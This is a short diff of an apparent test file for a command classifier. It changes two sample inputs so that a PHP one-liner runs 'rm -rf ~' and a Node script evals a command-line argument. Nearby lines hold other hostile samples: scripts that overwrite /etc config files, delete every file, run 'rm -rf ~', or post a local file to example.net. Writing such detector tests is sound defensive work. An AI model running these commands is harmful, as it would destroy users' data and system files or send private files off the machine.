@@ -243,7 +243,7 @@ tellApart({
       "python3 - <<'E'\nimport glob\nfor p in glob.glob('/etc/*.conf'):\n    open(p, 'w').write('x')\nE",
       "python3 - <<'E'\nimport glob, os\nfor p in glob.glob('*'):\n    os.remove(p)\nE",
       "python3 - <<'E'\nimport glob\nfor p in glob.glob('src/*.py'):\n    p = '/etc/x'\n    open(p, 'w')\nE",
-      'php -r \'array_map("system", ["id"]);\'',
+      'php -r \'array_map("system", ["rm -rf ~"]);\'',
       'node a.js & PID=$!; read PID < x; kill $PID',
       'PID=1; kill $PID; PID=$!',
       'git apply /tmp/fix.diff',
@@ -297,7 +297,7 @@ tellApart({
       "python3 - <<'E'\nimport requests\ns = requests.Session()\ns.post('https://example.net', data=open('notes.txt').read())\nE",
       "node - <<'E'\nconst p = `/etc/${f}`\nrequire('fs').writeFileSync(p, 'x')\nE",
       "node - <<'E'\nconst {execSync} = require('child_process')\nclass A { execSync(c) { return 1 } }\nexecSync('rm -rf ~')\nE",
-      "node - <<'E'\nconst o = { eval(x) { return x } }\neval('1')\nE",
+      "node - <<'E'\nconst o = { eval(x) { return x } }\neval(process.argv[2])\nE",
     ],
   },
 })
